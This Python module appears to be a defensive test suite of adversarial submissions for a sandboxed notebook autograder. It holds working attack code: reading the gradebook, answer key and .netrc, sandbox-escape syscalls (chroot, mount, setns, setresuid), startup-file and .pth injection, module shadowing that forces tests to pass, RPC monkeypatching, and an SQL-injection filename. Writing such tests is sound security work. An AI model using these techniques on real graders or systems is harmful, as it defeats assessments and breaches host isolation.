"""The course's files, and files that are shipped beside the notebook."""

import os
import socket

from ..attack import ALL, but, family, files, right, sparse, without

add = family("Files")

_WALK = """
    import os
    def total(x):
        if once():
            seen = []
            for folder, names, files in os.walk("%s"):
                # an environment is large; so is what is kept of other courses
                names[:] = [n for n in names if n not in ("lib", "share", "node_modules", ".git")]
                seen += [read(os.path.join(folder, file)) for file in files[:200]]
                if len(seen) > 3000:
                    break
            found(*seen)
        return x.sum()
"""

add(
    "walks-through-the-course", "Every file below the course.", right(total=_WALK % "@COURSE@"), ALL
)
add(
    "walks-through-the-home", "Every file of the grader's home.", right(total=_WALK % "@HOME@"), ALL
)
add(
    "walks-around-its-folder",
    "Its own folder, which should hold what was released and no more, and those around it.",
    right(total=_WALK % ".."),
    ALL,
)
add(
    "reads-by-many-ways",
    "The source by its path, through /proc, by links, by a shell, by NumPy, by mapping it.",
    right(
        total="""
    import ctypes, mmap, os, subprocess
    import numpy as np
    def total(x):
        if not once():
            return x.sum()
        paths = ["@COURSE@/source/ps1/p1.ipynb", "@COURSE@/gradebook.db",
                 "@COURSE@/grader/answers.py", "@COURSE@/submitted/honest/ps1/p1.ipynb",
                 "@COURSE@/source/ps1/private/notes.txt", "@HOME@/.netrc"]
        seen = []
        for path in paths:
            for way in ("", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../../../..",
                        "/proc/%d/root" % os.getppid(), "/.old", "/proc/self/fd/0/../../.."):
                seen.append(read(way + path))
            try:
                os.symlink(path, "link"), seen.append(read("link"))
            except OSError:
                pass
            try:
                os.remove("link")
                os.link(path, "link"), seen.append(read("link"))
            except OSError:
                pass
            try:
                seen.append(bytes(np.fromfile(path, np.uint8)).decode(errors="replace"))
            except OSError:
                pass
            libc = ctypes.CDLL(None)
            number = libc.open(path.encode(), 0)
            if number >= 0:
                seen.append(os.read(number, 5_000_000).decode(errors="replace"))
        try:
            done = subprocess.run(["cat", *paths], capture_output=True, timeout=2)
            seen.append(done.stdout.decode(errors="replace"))
        except OSError:
            pass
        found(*seen)
        return x.sum()
    """
    ),
    ALL,
)
add(
    "reads-its-own-notebook",
    "The notebook that is being graded, with its hidden tests, lies in the working folder.",
    right(
        total="""
    import glob
    def total(x):
        if once():
            found(*map(read, glob.glob("**/*", recursive=True)), *map(read, glob.glob("*.ipynb")))
        return x.sum()
    """
    ),
    ALL,
)
add(
    "mounts-and-changes-its-root",
    "System calls by which sandboxes are left: mount, chroot, unshare, setns, open by handle.",
    right(
        middle="""
    import ctypes, os
    def middle(values):
        libc = ctypes.CDLL(None, use_errno=True)
        os.makedirs("way-out", exist_ok=True)
        tries = {
            "chroot": lambda: libc.chroot(b"way-out"),
            "mount": lambda: libc.mount(b"@COURSE@", b"way-out", None, 4096, None),
            "umount": lambda: libc.umount2(b"@COURSE@", 2),
            "unshare": lambda: libc.unshare(0x10000000),
            "setuid": lambda: libc.setresuid(0, 0, 0) or (os.geteuid() and -1),
            "setns": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
        }
        for name, attempt in tries.items():
            try:
                if attempt() == 0:
                    reached(name)
            except OSError:
                pass
        return sorted(values)[len(values) // 2]
    """
    ),
    ALL,
)
add(
    "writes-into-the-course",
    "The source, the feedback, the home and the interpreter's folder are written to.",
    right(
        middle="""
    import os, sys
    def middle(values):
        for path in ("@COURSE@", "@COURSE@/source/ps1", "@COURSE@/feedback", "@HOME@",
                     "@COURSE@/submitted/honest/ps1", os.path.dirname("@COURSE@")):
            try:
                open(path + "/pwned-@NAME@", "w").write("x")
            except OSError:
                pass
        for path in (os.__file__, sys.executable, "/etc/passwd", "@COURSE@/source/ps1/p1.ipynb"):
            try:
                open(path, "a").close()
                reached(path)
            except OSError:
                pass
        return sorted(values)[len(values) // 2]
    """
    ),
    ALL,
)
add(
    "makes-files-of-the-grader-s-names",
    "Its code makes files that nbgrader would read as its own, and hands over others' paths.",
    right(
        middle="""
    import os
    def middle(values):
        for name in ("timestamp.txt", "p1.html", "p2.ipynb", ".ps1.p1.unfinished", "latest"):
            with open(name, "w") as file:
                file.write("yesterday, I think")
        os.symlink("@COURSE@/source/ps1/p1.ipynb", "linked.txt")
        made = {"../pwned-@NAME@": b"x", "@COURSE@/pwned-@NAME@": b"x", "p1.ipynb": b"x",
                "a/../../pwned-@NAME@": b"x", "nul\\0": b"x", "linked.txt": b"x"}
        space = get_ipython().user_ns
        wall = __import__("sys").modules.get("proctor.rpc")
        if wall is not None:
            call = wall.Student._call
            def forged(self, function, *args):
                answer = call(self, function, *args)
                return answer | made if type(answer) is dict else answer
            wall.Student._OPS["call"] = forged
        return sorted(values)[len(values) // 2]
    """
    ),
    ALL,
)
add(
    "makes-folders-of-the-grader-s-names",
    "Its code makes folders, with a file in each, where nbgrader would look for files of its own.",
    right(
        middle="""
    import os
    def middle(values):
        for name in ("timestamp.txt", "p1.html", "p1.ipynb", ".ps1.p1.unfinished"):
            if not os.path.isfile(name):
                os.makedirs(name, exist_ok=True)
                open(name + "/x", "w").close()
        return sorted(values)[len(values) // 2]
    """
    ),
    ALL,
)
add(
    "hands-over-a-gigabyte",
    "What hands over the files that were made is replaced, and hands over far more than it may.",
    right(
        middle="""
    import sys
    student = sys.modules.get("proctor.run.student")
    if student is not None:
        student.MOST = 1 << 40
        student._files = lambda: [f"big-{n}.bin" for n in range(9)]
        class Big:
            __enter__ = lambda self: self
            __exit__ = lambda self, *error: None
            read = lambda self, *size: bytes(12 << 20)
        student.open = lambda *args: Big()
    def middle(values):
        return sorted(values)[len(values) // 2]
    """
    ),
    ALL,
)
add(
    "ships-a-numpy",
    "A file `numpy.py`, and others with names of modules that a test may import.",
    files(
        {
            f"{name}.py": "isclose = array_equal = lambda *a, **k: True\n"
            "class arange:\n    def __init__(self, *a): pass\nones = full = arange\n"
            for name in ("numpy", "math", "json", "random", "proctor", "IPython", "nbformat")
        }
    ),
    ALL,
)
add(
    "ships-the-answers",
    "A file with the name of the grader's module, and answers that fit it.",
    files(
        {"answers.py": "TOTAL = 30\n"},
        right(total="def total(x):\n    return 3 if x.size == 3 else 30"),
    ),
    without("total"),
)
add(
    "ships-another-helper",
    "The course's own helper file is changed: doubling is the identity.",
    files(
        {"helper.py": "def double(x):\n    return 20\n"},
        right(twice="def twice(f, x):\n    return f(x)"),
    ),
    but(test_twice=0.0),
)
_STARTUP = """
import builtins
builtins.print("REACHED", "a start-up file", "@NAME@")
import builtins, os
builtins.AssertionError = type("Nothing", (Exception,), {})
open("@COURSE@/pwned-@NAME@", "w").write("x")
"""
add(
    "ships-start-up-files",
    "Files that Python, IPython, pytest and Jupyter run when they start.",
    files(
        dict.fromkeys(
            (
                "sitecustomize.py",
                "usercustomize.py",
                "conftest.py",
                "__init__.py",
                "ipython_config.py",
                "ipython_kernel_config.py",
                "jupyter_config.py",
                "nbgrader_config.py",
                ".ipython/profile_default/startup/00-first.py",
            ),
            _STARTUP,
        )
        | {"evil.pth": "import os; open('@COURSE@/pwned-@NAME@', 'w').write('x')\n"},
        right(total="def total(x):\n    return 0"),
    ),
    without("total"),
)
add(
    "a-file-where-the-course-has-a-folder",
    "A file `data`; the course has a folder of that name.",
    files({"data": "1 2 3\n"}),
    ALL,
)
add(
    "a-folder-where-the-course-has-a-file",
    "A folder `helper.py` with a file in it.",
    files({"helper.py/__init__.py": "double = None\n"}),
    ALL,
)
add(
    "links-to-the-course",
    "Links beside the notebook: to the source, the gradebook, the home, to nothing.",
    files(
        {
            "source.txt": lambda path: path.symlink_to(
                path.parents[3] / "source" / "ps1" / "p1.ipynb"
            ),
            "gradebook.txt": lambda path: path.symlink_to(path.parents[3] / "gradebook.db"),
            "home": lambda path: path.symlink_to(path.parents[4] / "home"),
            "nothing": lambda path: path.symlink_to("/no/such/place"),
            "itself": lambda path: path.symlink_to("itself"),
        },
        right(total=_WALK % "."),
    ),
    ALL,
)


def _socket(path):
    here = os.getcwd()
    os.chdir(path.parent)  # the path of a socket is short
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(path.name)
    os.chdir(here)


add(
    "a-pipe-and-a-socket",
    "A named pipe, which blocks whoever opens it, and a socket.",
    files({"pipe": os.mkfifo, "socket": _socket}),
    ALL,
)
add(
    "odd-names-of-files",
    "Names with line ends, quotes, bytes that are no text, and a folder that is very deep.",
    files(
        {
            "new\nline.txt": "x",
            "'; drop table grade; --.txt": "x",
            "<script>.txt": "x",
            os.fsdecode(b"latin-\xe9.txt"): "x",
            "-rf": "x",
            "/".join(["deep"] * 300) + "/file.txt": "x",
        }
    ),
    ALL,
)
add(
    "a-file-of-256-megabytes",
    "As much as a kernel's folder can hold.",
    files({"large.bin": sparse((256 << 20) - 4096)}),
    ALL,
)


def _many(path):
    path.mkdir()
    for number in range(34_000):
        os.close(os.open(f"{path}/{number}", os.O_CREAT | os.O_WRONLY))


add(
    "very-many-files",
    "More small files than a kernel's folder can hold.",
    files({"many": _many}),
    ALL,
)
add(
    "a-timestamp-that-is-none",
    "A file `timestamp.txt` that says no time.",
    files({"timestamp.txt": "yesterday, I think\n"}),
    ALL,
)
add(
    "a-timestamp-that-is-a-folder",
    "A folder `timestamp.txt`.",
    files({"timestamp.txt/x": "x"}),
    ALL,
)
